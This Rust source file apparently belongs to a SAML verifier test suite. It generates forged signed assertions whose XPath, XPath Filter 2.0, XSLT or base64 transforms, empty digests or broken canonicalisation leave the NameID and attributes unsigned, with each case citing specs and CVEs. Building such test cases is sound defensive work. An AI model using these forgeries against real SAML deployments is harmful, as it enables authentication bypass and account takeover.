use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::crypto::Digester;
use crate::dsig::{ReferencePlan, Transform, Written};
use crate::saml::forge::{Bench, Draft, ForgeError, Seal, Signed};
use crate::saml::names::ASSERTION;
use crate::xml::c14n::{Canonicalization, Subset, to_bytes};

use super::list::tamperings;
use super::names::NO_ALGORITHM;
use super::place::tag;
use super::stage::Stage;

tamperings! {
    /// The trusted key signed, but what it signed leaves out what is read.
    TransformTampering, "Transforms and canonical forms that leave something out";

    /// An XPath transform leaves everything out.
    XPathSelectsNothing = "xpath-selects-nothing", Complicit, "SAML Core 5.4.4; XML Signature Best Practices (W3C 2013)";
    /// An XPath transform keeps elements that are not there. A reader of few expressions may know this one.
    XPathMatchesNothing = "xpath-matches-nothing", Complicit, "SAML Core 5.4.4; XML Signature 6.6.3";
    /// An XPath transform leaves the name and the attributes out.
    XPathOmitsName = "xpath-omits-name", Complicit, "SAML Core 5.4.4";
    /// An XPath filter subtracts the name and the attributes.
    XPathFilterSubtractsName = "xpath-filter-subtracts-name", Complicit, "SAML Core 5.4.4; XML-Signature XPath Filter 2.0";
    /// An XPath filter intersects with elements that are not there.
    XPathFilterIntersectsNothing = "xpath-filter-intersects-nothing", Complicit, "SAML Core 5.4.4; XML-Signature XPath Filter 2.0";
    /// An XPath filter subtracts the whole document.
    XPathFilterSubtractsAll = "xpath-filter-subtracts-all", Complicit, "SAML Core 5.4.4; XML-Signature XPath Filter 2.0";
    /// An XSLT transform makes a constant of whatever it is given.
    XsltMakesConstant = "xslt-makes-constant", Complicit, "SAML Core 5.4.4; XML Signature Best Practices (W3C 2013); CVE-2022-34169 (Xalan)";
    /// An XSLT transform makes an element of whatever it is given, which has a canonical form.
    XsltMakesElement = "xslt-makes-element", Complicit, "SAML Core 5.4.4; XML Signature Best Practices (W3C 2013)";
    /// A base64 transform decodes a text elsewhere in the message; the rest is not covered.
    Base64Transform = "base64-transform", Complicit, "SAML Core 5.4.4; XML Signature 6.6.2";
    /// A transform that nobody knows.
    UnknownTransform = "unknown-transform", Unsound, "SAML Core 5.4.4";
    /// A hundred transforms, each of which changes nothing.
    ManyTransforms = "many-transforms", Unusual, "XML Signature Best Practices (W3C 2013)";
    /// The digest is that of nothing.
    VoidDigest = "void-digest", Complicit, "CVE-2025-66568 (ruby-saml); The Fragile Lock (Black Hat Europe 2025)";
    /// The digest is that of nothing, and a relative namespace lets canonicalisation of the element fail.
    VoidCanonicalization = "void-canonicalization", Complicit, "CVE-2025-66568 (ruby-saml); The Fragile Lock (Black Hat Europe 2025); RFC 3076 section 1.3";
    /// The signature is that of nothing, and a relative namespace lets canonicalisation of SignedInfo fail.
    VoidSignedInfo = "void-signed-info", Complicit, "CVE-2025-66568 (ruby-saml); The Fragile Lock (Black Hat Europe 2025); RFC 3076 section 1.3";
}

/// Text that a base64 transform makes of the one elsewhere.
const DECODED: &[u8] = b"fedspec";

impl Stage for TransformTampering {
    // Where there is no canonical form, nothing can be encrypted as it is.
    fn wants_plain(self) -> bool {
        matches!(self, Self::VoidCanonicalization | Self::VoidSignedInfo)
    }

    fn signs(self) -> Option<&'static [Signed]> {
        (self == Self::Base64Transform).then_some(&[Signed::Assertion])
    }

    fn before_signing(self, draft: &mut Draft, bench: &Bench<'_>) -> Result<(), ForgeError> {
        match self {
            Self::Base64Transform => {
                let extensions = draft.extensions()?;
                let text = draft.foreign_with_id(&bench.ids.nobody)?;
                draft.say(text, &STANDARD.encode(DECODED))?;
                draft.document.append(extensions, text)?;
            }
            Self::VoidCanonicalization => {
                for element in draft.assertions.clone() {
                    draft.document.add_attribute(element, "xmlns:void", "relative")?;
                }
            }
            _ => {}
        }
        Ok(())
    }

    fn plan(self, seal: &mut Seal, draft: &mut Draft, bench: &Bench<'_>) -> Result<(), ForgeError> {
        let xpath = tag(seal, "XPath");
        match self {
            Self::XPathSelectsNothing => {
                let content = format!("<{xpath}>false()</{xpath}>");
                insert(seal, XPATH, &content);
                digest_of(seal, b"");
            }
            Self::XPathMatchesNothing => {
                let expression = "ancestor-or-self::saml:Nothing";
                let content = format!("<{xpath} xmlns:saml=\"{ASSERTION}\">{expression}</{xpath}>");
                insert(seal, XPATH, &content);
                digest_of(seal, b"");
            }
            Self::XPathFilterIntersectsNothing => {
                insert(seal, FILTER, &filter("intersect", "//saml:Nothing"));
                digest_of(seal, b"");
            }
            Self::XPathFilterSubtractsAll => {
                insert(seal, FILTER, &filter("subtract", "/"));
                digest_of(seal, b"");
            }
            Self::XPathOmitsName => {
                let content = format!(
                    "<{xpath} xmlns:saml=\"{ASSERTION}\">not(ancestor-or-self::saml:NameID or \
                     ancestor-or-self::saml:AttributeValue)</{xpath}>"
                );
                insert(seal, XPATH, &content);
                let rest = without_names(draft, seal)?;
                digest_of(seal, &rest);
            }
            Self::XPathFilterSubtractsName => {
                let names = "//saml:NameID | //saml:AttributeValue";
                insert(seal, FILTER, &filter("subtract", names));
                let rest = without_names(draft, seal)?;
                digest_of(seal, &rest);
            }
            Self::XsltMakesConstant => {
                insert(seal, XSLT, &stylesheet("<xsl:output method=\"text\"/>", "fedspec"));
                digest_of(seal, b"fedspec");
            }
            Self::XsltMakesElement => {
                insert(seal, XSLT, &stylesheet("", "<fedspec>x</fedspec>"));
                digest_of(seal, b"<fedspec>x</fedspec>");
            }
            Self::Base64Transform => {
                for reference in seal.references() {
                    *reference = ReferencePlan {
                        transforms: Some(vec![Transform::Base64]),
                        ..ReferencePlan::enveloped(&bench.ids.nobody)
                    };
                }
            }
            Self::UnknownTransform => insert(seal, NO_ALGORITHM, ""),
            Self::ManyTransforms => {
                for reference in seal.references() {
                    let again = Transform::Canonical(Canonicalization::exclusive());
                    reference.transforms.get_or_insert_default().extend(vec![again; 98]);
                }
            }
            Self::VoidDigest | Self::VoidCanonicalization => digest_of(seal, b""),
            Self::VoidSignedInfo => {
                let key = &bench.pair(bench.spec.key)?.key;
                let algorithm = seal.plan.signed_infos.first().map(|info| info.algorithm);
                let algorithm = algorithm.unwrap_or_else(|| key.usual_algorithm());
                seal.plan.value = Written::Bytes(key.sign(algorithm, b"")?);
            }
        }
        Ok(())
    }

    fn after_signing(self, draft: &mut Draft, _: &Bench<'_>) -> Result<(), ForgeError> {
        if self == Self::VoidSignedInfo {
            for sealed in draft.sealed()? {
                let info = draft.part(sealed.signature, "SignedInfo")?;
                draft.document.add_attribute(info, "xmlns:void", "relative")?;
            }
        }
        Ok(())
    }
}

const XPATH: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
const FILTER: &str = "http://www.w3.org/2002/06/xmldsig-filter2";
const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
const XSL: &str = "http://www.w3.org/1999/XSL/Transform";

/// A stylesheet that makes the same of every document.
fn stylesheet(output: &str, made: &str) -> String {
    format!(
        "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"{XSL}\">{output}<xsl:template \
         match=\"/\">{made}</xsl:template></xsl:stylesheet>"
    )
}

/// What a transform of XPath Filter 2.0 holds.
fn filter(kind: &str, expression: &str) -> String {
    format!(
        "<f:XPath xmlns:f=\"{FILTER}\" xmlns:saml=\"{ASSERTION}\" Filter=\"{kind}\">{expression}</f:XPath>"
    )
}

/// Adds a transform after the one that takes the Signature out.
fn insert(seal: &mut Seal, uri: &str, content: &str) {
    for reference in seal.references() {
        let made = Transform::Other { uri: uri.to_owned(), content: content.to_owned() };
        let transforms = reference.transforms.get_or_insert_default();
        let at = transforms.len().min(1);
        transforms.insert(at, made);
    }
}

/// Lets the digest be that of these octets.
fn digest_of(seal: &mut Seal, octets: &[u8]) {
    for reference in seal.references() {
        reference.value = Written::Bytes(Digester::of(reference.digest, octets));
    }
}

/// The canonical form of what is signed, without what the filters leave out.
fn without_names(draft: &Draft, seal: &Seal) -> Result<Vec<u8>, ForgeError> {
    let mut rest = draft.clone();
    for local in ["NameID", "AttributeValue"] {
        for node in rest.all(seal.element, local) {
            rest.document.remove(node)?;
        }
    }
    Ok(to_bytes(&rest.document, &Subset::of(seal.element), &Canonicalization::exclusive())?)
}
